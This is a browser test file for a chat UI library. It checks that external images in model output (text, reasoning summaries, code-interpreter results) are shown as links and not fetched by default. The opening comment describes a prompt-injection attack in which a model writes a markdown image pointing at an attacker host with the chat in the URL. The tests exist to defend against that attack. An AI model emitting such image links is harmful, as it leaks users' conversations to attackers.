import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { userEvent } from "vitest/browser";
import type { Message as MessageModel, Part } from "../../src/core/index.js";
import { Chat, Message, MessageList, preloadPartViews } from "../../src/ui/index.js";
import { mount, type Mounted } from "./component-harness.js";

/**
 * A prompt injection can make the model write `![](https://attacker/pixel?q=<the chat>)`:
 * fetching that image mid-stream sends the conversation to the attacker. By default no
 * external image in model-generated content is requested; each shows as a link naming its
 * host, loaded on click, and the `images` policy reaches every part that shows such URLs.
 */

const PIXEL =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

/** A fresh URL on the test server, so a request for it shows in the resource timings. */
const tracker = () => `${location.origin}/__colloquy-pixel-${crypto.randomUUID()}.png`;

/** True once the page has asked for `url` (an `<img>` fetch is a resource timing entry). */
const requested = (url: string) =>
  performance.getEntriesByType("resource").some((entry) => entry.name === url);

const images = (root: HTMLElement, url: string) =>
  [...root.querySelectorAll("img")].filter((img) => img.getAttribute("src") === url);

/** Long enough for an image the page did start to load to show in the timings. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 300));

function assistant(parts: Part[], status: MessageModel["status"] = "complete"): MessageModel {
  return { id: `m-${crypto.randomUUID()}`, role: "assistant", parts, metadata: {}, status };
}

function everyImagePart(url: string): Part[] {
  return [
    {
      type: "reasoning",
      id: "rs_1",
      summary: [{ text: `**Plan**\n\n![pixel](${url}?from=reasoning)` }],
      state: "streaming",
    },
    { type: "text", text: `Here you go.\n\n![status](${url}?from=text)`, state: "streaming" },
    {
      type: "code-interpreter-call",
      id: "ci_1",
      state: "completed",
      item: {
        id: "ci_1",
        type: "code_interpreter_call",
        status: "completed",
        code: "plot()",
        container_id: "cntr_1",
        outputs: [{ type: "image", url: `${url}?from=code-interpreter` }],
      },
    },
  ];
}

let mounted: Mounted | undefined;
beforeAll(() => {
  // The test page loads every source module as its own resource; past the default buffer of
  // 250 entries the browser records no more, and a pixel that was fetched would look unfetched.
  performance.setResourceTimingBufferSize(100_000);
  return preloadPartViews();
});
afterEach(async () => {
  await mounted?.unmount();
  mounted = undefined;
});

describe("external images in model-generated content", () => {
  it("a tracking pixel streamed in model text is not fetched by default, but linked with its host", async () => {
    const url = tracker();
    const message = assistant(
      [
        {
          type: "text",
          text: `Summary.\n\n![chart](${url}?secret=chat-history)`,
          state: "streaming",
        },
      ],
      "in-progress",
    );
    mounted = await mount(<Message message={message} />, "light");
    await settle();
    expect(mounted.root.querySelectorAll("img")).toHaveLength(0);
    expect(requested(`${url}?secret=chat-history`)).toBe(false);
    const link = mounted.root.querySelector<HTMLAnchorElement>("a.colloquy-markdown__image-link")!;
    expect(link.textContent).toBe(`chart (image from ${location.host})`);
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    // The reader asks for it: now, and only now, it loads in place.
    await userEvent.click(link);
    await settle();
    expect(images(mounted.root, `${url}?secret=chat-history`)).toHaveLength(1);
  });

  it("no part of a message (text, reasoning summary, code-interpreter image) fetches by default", async () => {
    const url = tracker();
    mounted = await mount(
      <Message message={assistant(everyImagePart(url), "in-progress")} />,
      "light",
    );
    await settle();
    expect(mounted.root.querySelectorAll("img")).toHaveLength(0);
    for (const from of ["reasoning", "text", "code-interpreter"]) {
      expect(requested(`${url}?from=${from}`), from).toBe(false);
    }
    expect(mounted.root.querySelectorAll("a.colloquy-markdown__image-link")).toHaveLength(3);
  });

  it('the reasoning summary obeys images="block" given to <Message>', async () => {
    const url = tracker();
    const message = assistant(everyImagePart(url), "in-progress");
    mounted = await mount(<Message message={message} images="block" />, "light");
    await settle();
    expect(mounted.root.querySelectorAll("img, a.colloquy-markdown__image-link")).toHaveLength(0);
    const summary = mounted.root.querySelector(".colloquy-reasoning__summary")!;
    expect(summary.querySelector("[data-state=blocked]")?.textContent).toBe("pixel");
    for (const from of ["reasoning", "text", "code-interpreter"]) {
      expect(requested(`${url}?from=${from}`), from).toBe(false);
    }
  });

  it("a policy function given to <MessageList> decides per URL, in every part", async () => {
    const url = tracker();
    const message = assistant(everyImagePart(url), "in-progress");
    const allowReasoning = (src: string) => src.endsWith("from=reasoning");
    mounted = await mount(<MessageList messages={[message]} images={allowReasoning} />, "light");
    await settle();
    expect(images(mounted.root, `${url}?from=reasoning`)).toHaveLength(1);
    expect(images(mounted.root, `${url}?from=text`)).toHaveLength(0);
    expect(images(mounted.root, `${url}?from=code-interpreter`)).toHaveLength(0);
    expect(mounted.root.querySelectorAll("a.colloquy-markdown__image-link")).toHaveLength(2);
  });

  it('images="allow" on <Chat> loads them (the check above can see a request)', async () => {
    const url = tracker();
    const initialMessages = [assistant(everyImagePart(url))];
    mounted = await mount(
      <Chat
        endpoint="/v1"
        model="gpt-4.1-mini"
        images="allow"
        chatOptions={{ initialMessages, storage: null }}
      />,
      "light",
    );
    await settle();
    expect(images(mounted.root, `${url}?from=text`)).toHaveLength(1);
    expect(images(mounted.root, `${url}?from=code-interpreter`)).toHaveLength(1);
    expect(requested(`${url}?from=text`)).toBe(true);
  });

  it("<Chat> shows external images as links by default", async () => {
    const url = tracker();
    const initialMessages = [assistant(everyImagePart(url))];
    mounted = await mount(
      <Chat endpoint="/v1" model="gpt-4.1-mini" chatOptions={{ initialMessages, storage: null }} />,
      "light",
    );
    await settle();
    expect(mounted.root.querySelectorAll("img")).toHaveLength(0);
    expect(requested(`${url}?from=text`)).toBe(false);
  });

  it("generated images and the user's own attachments are not external and still show", async () => {
    const generated = assistant([
      {
        type: "image",
        origin: "generated",
        id: "ig_1",
        data: PIXEL.split(",")[1]!,
        state: "complete",
      },
      { type: "text", text: `![inline](${PIXEL})` },
    ]);
    const attachment: MessageModel = {
      id: "u1",
      role: "user",
      parts: [{ type: "image", origin: "input", url: PIXEL }],
      metadata: {},
      status: "complete",
    };
    mounted = await mount(
      <MessageList messages={[attachment, generated]} images="block" />,
      "light",
    );
    await settle();
    const sources = [...mounted.root.querySelectorAll("img")].map((img) => img.src);
    expect(sources.filter((src) => src.startsWith("data:image/png"))).toHaveLength(3);
  });
});
